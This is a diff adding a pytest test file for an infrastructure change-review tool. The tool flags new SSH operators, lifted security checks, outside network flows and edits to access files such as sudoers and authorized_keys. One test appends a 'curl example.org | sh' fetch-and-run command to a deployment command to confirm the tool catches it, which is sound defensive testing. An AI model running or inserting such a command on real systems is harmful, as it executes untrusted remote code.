@@ -1,0 +1,179 @@
+"""Whom and what a change gives power, on recorded previews and on variations of them."""
+
+import json
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from idr.review import rules
+from idr.review.disclosed import person
+from idr.review.power import FileChange, power_changes
+from idr.review.preview import Preview, read
+from idr.review.rules import Change
+from tests.unit.review.test_review import raw, recorded
+
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINb8hShqOQY992ABkcRYTAsffyhcj03PJsMOYlZ4a98s"
+
+
+def varied(**inputs: Any) -> Preview:
+    """The preview that adds an operator, with other inputs of the disclosure after the change."""
+    found = raw("operator-added")
+    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
+    step["newState"]["inputs"] = {**step["oldState"]["inputs"], **inputs}
+    return read(json.dumps(found))
+
+
+def broken(preview: Preview) -> list[str]:
+    return [breach.rule for breach in rules.check(Change(preview))]
+
+
+def test_an_operator_is_called_as_ssh_keygen_does(tmp_path: Path) -> None:
+    file = tmp_path / "key.pub"
+    file.write_text(f"{KEY} somebody at home\n")
+    said = subprocess.run(["ssh-keygen", "-l", "-f", str(file)], capture_output=True, text=True, check=True).stdout
+    assert person(f"{KEY} somebody at home") == f"somebody at home ({said.split()[1]})"
+    assert person(KEY).startswith("a key without a name (SHA256:")
+
+
+def test_another_key_under_a_known_name_is_another_operator() -> None:
+    before = recorded("operator-added")
+    (old,) = (step.old for step in before.steps if step.type.endswith("Disclosure") and step.old)
+    name = old.inputs["operators"][0].split()[2]
+    other = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA {name}"
+    changes = power_changes(varied(operators=[other]))
+    assert (len(changes.joined), len(changes.left)) == (1, 1)
+    assert broken(varied(operators=[other])) == ["operator-added"]
+
+
+def test_who_leaves_breaks_no_rule_and_a_key_pair_of_the_cloud_is_somebody() -> None:
+    assert broken(varied(operators=[])) == []
+    assert broken(varied(keyPair="ops")) == ["operator-added"]
+
+
+def test_a_check_that_a_setting_lifts_is_named() -> None:
+    assert power_changes(varied(checks=[])).lifted == (
+        "data volumes are protected",
+        "every port has security groups",
+        "nodes have firewalls of their own",
+        "the cloud's certificate is verified",
+    )
+    assert set(broken(varied(checks=[]))) == {"check-lifted"}
+
+
+def test_another_reason_is_no_new_flow() -> None:
+    flow = {"from": "proxy", "to": "web", "port": "tcp 4080", "why": "OMERO.web"}
+    found = raw("operator-added")
+    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
+    step["oldState"]["inputs"]["flows"] = [flow]
+    step["newState"]["inputs"]["flows"] = [{**flow, "why": "another"}]
+    assert power_changes(read(json.dumps(found))).opened == ()
+
+
+def test_a_flow_that_is_opened_to_more_accounts_is_a_new_one() -> None:
+    flow = {"from": "node", "to": "world", "port": "tcp 443", "users": "root, _apt", "why": "packages"}
+    found = raw("operator-added")
+    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
+    step["oldState"]["inputs"]["flows"] = [flow]
+    step["newState"]["inputs"] = {**step["oldState"]["inputs"], "flows": [{**flow, "users": ""}]}
+    preview = read(json.dumps(found))
+    changes = power_changes(preview)
+    assert [str(one) for one in changes.opened] == ["tcp 443 from node to world"]
+    assert [str(one) for one in changes.closed] == ["tcp 443 from node to world for root, _apt alone"]
+    assert broken(preview) == ["flow-outside"]
+
+
+@pytest.mark.parametrize(
+    ("flow", "expected"),
+    [
+        (("redis", "database"), []),
+        (("database", "world"), ["flow-outside"]),
+        (("192.0.2.0/24", "database"), ["flow-outside"]),
+        (("node", "192.0.2.0/24"), ["flow-outside"]),
+        (("web", "storage"), ["flow-outside"]),
+    ],
+)
+def test_a_flow_to_or_from_outside_breaks_a_rule(flow: tuple[str, str], expected: list[str]) -> None:
+    added = {"from": flow[0], "to": flow[1], "port": "tcp 7777", "why": "a test"}
+    assert broken(varied(flows=[added])) == expected
+
+
+@pytest.mark.parametrize(
+    ("path", "what", "rule"),
+    [
+        ("cloudinit/common/files/home/idr/.ssh/authorized_keys2", "added", "access-changed"),
+        ("cloudinit/common/files/etc/sudoers.d/more", "added", "access-changed"),
+        ("cloudinit/bastion/files/etc/ssh/sshd_config.d/20-idr-bastion.conf.j2", "changed", "access-changed"),
+        ("cloudinit/redis/files/etc/redis/users.acl.j2", "changed", "access-changed"),
+        ("cloudinit/common/files/etc/nftables.conf.j2", "removed", "access-changed"),
+        ("cloudinit/web/files/etc/systemd/system/omero-web.service", "changed", "access-changed"),
+        ("cloudinit/redis/files/etc/systemd/system/redis-server.service.d/idr.conf", "removed", "access-changed"),
+        ("cloudinit/database/files.yaml", "changed", "access-changed"),
+        ("model/addresses.yaml", "changed", "access-changed"),
+        ("cloudinit/web/scripts/check", "removed", "check-lifted"),
+        ("cloudinit/web/scripts/health", "changed", "check-lifted"),
+        ("cloudinit/bootstrap/idr-apply", "changed", "check-lifted"),
+        ("cloudinit/web/scripts/check", "added", None),
+        ("cloudinit/web/scripts/activate", "changed", None),
+    ],
+)
+def test_a_file_that_gives_access_or_checks_breaks_a_rule(path: str, what: str, rule: str | None) -> None:
+    file = FileChange(path, what)
+    assert (file.is_access, file.is_check) == (rule == "access-changed", rule == "check-lifted")
+
+
+def disclosed_in(case: str, state: str) -> dict[str, Any]:
+    """A recorded preview without the disclosure's `state`."""
+    found = raw(case)
+    for step in found["steps"]:
+        if "Disclosure" in step["urn"]:
+            step["op"] = {"oldState": "create", "newState": "delete"}[state]
+            del step[state]
+    found["changeSummary"] = {}
+    return found
+
+
+def test_a_stack_of_an_earlier_program_cannot_hide_an_operator() -> None:
+    preview = read(json.dumps(disclosed_in("operator-added", "oldState")))
+    found = [breach for breach in rules.check(Change(preview)) if breach.rule == "operator-added"]
+    assert len(found) == 2
+    assert all("who could before is not recorded" in breach.text for breach in found)
+
+
+def test_a_program_that_discloses_nothing_any_more_breaks_a_rule() -> None:
+    assert broken(read(json.dumps(disclosed_in("operator-added", "newState")))) == ["power-withheld"]
+
+
+def test_the_first_update_says_who_may_log_in_and_breaks_nothing() -> None:
+    found = raw("operator-added")
+    for step in found["steps"]:
+        step["op"] = "create"
+        step.pop("oldState", None)
+    found["changeSummary"] = {}
+    preview = read(json.dumps(found))
+    assert len(power_changes(preview).joined) == 2
+    assert broken(preview) == []
+
+
+@pytest.mark.parametrize("kind", ["command:remote:Command", "command:local:Command"])
+@pytest.mark.parametrize("event", ["create", "update", "delete"])
+def test_a_command_that_did_not_run_before_breaks_a_rule(kind: str, event: str) -> None:
+    found = raw("nothing")
+    urn = f"urn:pulumi:local::idr::{kind}::demo1-redis"
+    states = [{"inputs": {event: command}} for command in ("sudo idr-apply", "sudo idr-apply; curl example.org | sh")]
+    found["steps"].append({"op": "update", "urn": urn, "oldState": states[0], "newState": states[1]})
+    (breach,) = rules.check(Change(read(json.dumps(found))))
+    assert breach.rule == "command-changed"
+    assert breach.text.endswith("curl example.org | sh")
+
+
+def test_another_node_with_the_known_command_breaks_no_rule() -> None:
+    found = raw("nothing")
+    state = {"inputs": {"create": "sudo idr-apply"}}
+    urn = "urn:pulumi:local::idr::command:remote:Command::demo1-"
+    found["steps"] += [
+        {"op": "same", "urn": f"{urn}redis", "oldState": state, "newState": state},
+        {"op": "create", "urn": f"{urn}web", "newState": state},
+    ]
+    assert broken(read(json.dumps(found))) == []
